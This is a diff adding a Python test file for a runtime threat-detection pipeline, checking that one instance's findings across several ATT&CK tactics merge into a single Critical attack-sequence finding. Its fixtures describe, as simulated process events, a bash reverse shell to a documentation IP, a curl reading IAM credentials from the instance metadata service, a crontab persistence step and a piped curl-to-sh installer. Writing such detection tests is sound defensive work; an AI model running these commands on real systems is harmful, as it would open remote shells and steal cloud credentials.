@@ -1,0 +1,138 @@
+"""Attack sequences (vigil.sequences): one instance's findings across tactics become one Critical finding.
+
+GIVEN the pipeline over agent batches, WHEN one instance's Medium+ findings span two ATT&CK tactics
+(in separate batches, in either order), THEN one AttackSequence:EC2/CompromisedInstanceGroup finding
+forms, lists its signals in order with their tactics, grows with later signals, and a replayed
+batch neither adds a sighting nor changes its signals; one tactic, Low signals or another
+instance's findings form none.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import msgspec
+from guardduty_shape import validate
+
+from vigil import sample as s
+from vigil import wire
+from vigil.findings import Occurrence
+from vigil.pipeline import Pipeline
+from vigil.sequences import TYPE, tactic
+from vigil.state import InMemoryState
+
+EVENTS = Path(__file__).resolve().parents[2] / "events" / "agent"
+SEC = 1_000_000_000
+WEB = s.proc("/usr/sbin/nginx", pid=900, uid=33, user="www-data")
+REVERSE = s.proc(
+    "/bin/bash",
+    "-i",
+    pid=4000,
+    stdin=s.sock("198.51.100.7", 4444),
+    stdout=s.sock("198.51.100.7", 4444),
+    parent=WEB,
+)
+IMDS = s.proc(
+    "/usr/bin/curl",
+    "-s",
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/r",
+    pid=4001,
+    parent=REVERSE,
+)
+DISCOVERY = s.proc("/usr/bin/cat", "/etc/os-release", pid=4002, parent=REVERSE)  # no finding at all
+
+
+def _run(pipeline: Pipeline, state: InMemoryState, *batches: list) -> list[Occurrence]:
+    out: list[Occurrence] = []
+    for events in batches:
+        out += pipeline.detect(events, state).occurrences
+        state.commit()
+    return out
+
+
+def _seq(occ: list[Occurrence]) -> list[Occurrence]:
+    return [o for o in occ if o.finding["type"] == TYPE]
+
+
+def _signals(o: Occurrence) -> list[tuple[str, str]]:
+    sig = o.finding["service"]["detection"]["sequence"]["signals"]
+    return [(x["name"], x["signalIndicators"][0]["values"][0]) for x in sig]
+
+
+def test_a_second_tactic_forms_one_critical_sequence_listing_the_signals_in_order() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    first = _run(p, state, [s.exec_(REVERSE, t=0)])
+    assert _seq(first) == [] and {o.finding["type"] for o in first} == {"Execution:Runtime/ReverseShell"}
+    second = _run(p, state, [s.exec_(IMDS, t=30 * SEC)])
+    (o,) = _seq(second)
+    assert o.finding["severity"] == 9.0 and o.count == 1
+    assert _signals(o) == [
+        ("Execution:Runtime/ReverseShell", "Execution"),
+        ("CredentialAccess:Runtime/SuspiciousCommand", "Credential Access"),
+    ]
+    assert "2 tactics (Execution, Credential Access)" in o.finding["title"]
+    assert validate(o.finding) == []
+    # it grows: a later signal of a third tactic updates the same finding with three signals
+    later = s.exec_(s.proc("/usr/bin/crontab", "/tmp/c", pid=4003, parent=REVERSE), t=60 * SEC)
+    (grown,) = _seq(_run(p, state, [later]))  # crontab from a web server's shell: Persistence, Medium
+    assert grown.id == o.id and _signals(grown)[2:] == [
+        ("Persistence:Runtime/SuspiciousCommand", "Persistence")
+    ]
+    assert "3 tactics" in grown.finding["title"]
+
+
+def test_the_order_of_arrival_does_not_matter_and_replays_add_nothing() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    cred, shell = s.exec_(IMDS, t=30 * SEC), s.exec_(REVERSE, t=0)
+    a = _seq(_run(p, state, [cred]))
+    b = _seq(_run(p, state, [shell]))
+    assert a == [] and len(b) == 1
+    # the State orders by time first seen: the shell (t=0) before the credentials (t=30 s)
+    assert [n for n, _ in _signals(b[0])] == [
+        "Execution:Runtime/ReverseShell",
+        "CredentialAccess:Runtime/SuspiciousCommand",
+    ]
+    again = _seq(_run(p, state, [shell]))  # the same record again: the same event, the same document
+    assert [x.sightings for x in again] == [b[0].sightings]
+    assert _signals(again[0]) == _signals(b[0]) and again[0].id == b[0].id
+
+
+def test_one_tactic_low_signals_or_another_instance_form_no_sequence() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    other = msgspec.structs.replace(s.DEVICE, instance_uid="i-0fffffffffffffff1")
+    shell2 = s.exec_(s.proc("/bin/sh", stdin=s.sock("203.0.113.9", 9001), pid=4100, parent=WEB), t=SEC)
+    occ = _run(p, state, [s.exec_(REVERSE)], [shell2], [s.exec_(DISCOVERY, t=2 * SEC)])
+    assert _seq(occ) == []  # Execution twice, and a command that raises nothing
+    assert _seq(_run(p, state, [s.exec_(IMDS, t=3 * SEC, device=other)])) == []  # another instance
+    # at an administrator's terminal: an installer piped to sh (Execution, Medium), then crontab
+    # (Persistence, Low at a terminal): a Low finding is no step of a sequence
+    admin = InMemoryState()
+    install = s.exec_(
+        s.proc("/bin/sh", "-c", "curl -fsSL https://get.example.com/i | sh", pid=4200, parent=s.LOGIN_SHELL)
+    )
+    cron = s.exec_(s.proc("/usr/bin/crontab", "/tmp/c", pid=4201, parent=s.LOGIN_SHELL), t=SEC)
+    occ = _run(p, admin, [install], [cron])
+    assert {(o.finding["type"], o.finding["severity"]) for o in occ} == {
+        ("Execution:Runtime/SuspiciousCommand", 5.0),
+        ("Persistence:Runtime/SuspiciousCommand", 2.0),
+    }
+    assert tactic("Backdoor:Runtime/C&CActivity.B") == ("TA0011", "Command and Control")
+    assert tactic("Trojan:EC2/DropPoint") == ("TA0010", "Exfiltration")
+    assert tactic("Policy:Runtime/Nothing") is None
+
+
+def test_the_demo_batches_form_a_sequence_on_the_reverse_shell_instance_only_after_its_next_step() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    occ: list[Occurrence] = []
+    for name in ("benign.ndjson.gz", "reverse_shell.ndjson.gz", "crypto_dns.ndjson.gz"):
+        occ += p.process_record((EVENTS / name).read_bytes(), state).occurrences
+        state.commit()
+    assert _seq(occ) == []
+    data = (EVENTS / "reverse_shell_next.ndjson.gz").read_bytes()
+    (o,) = _seq(p.process_record(data, state).occurrences)
+    state.commit()
+    host = wire.decode_batch(data)[0][0].host
+    assert host is not None and o.instance_id == host.instance_id
+    assert [t for _, t in _signals(o)] == ["Execution", "Execution", "Credential Access"]
+    (again,) = _seq(p.process_record(data, state).occurrences)
+    assert again.sightings == o.sightings and _signals(again) == _signals(o)
